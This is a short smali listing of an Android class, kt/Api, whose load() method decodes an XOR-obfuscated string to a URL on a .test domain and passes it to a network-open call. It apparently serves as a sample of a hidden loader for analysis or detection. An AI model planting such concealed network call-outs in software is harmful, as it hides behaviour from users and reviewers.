.class public Lkt/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    sget-object v1, Lkt/Dec;->INSTANCE:Lkt/Dec;
    const-string v0, "C__[X\u0011\u0004\u0004@D_GBE\u0005XCD[\u0005_NX_\u0004]\u001a\u0004DIANH_"
    invoke-virtual {v1, v0}, Lkt/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lkt/Net;->open(Ljava/lang/String;)V
    return-void
.end method

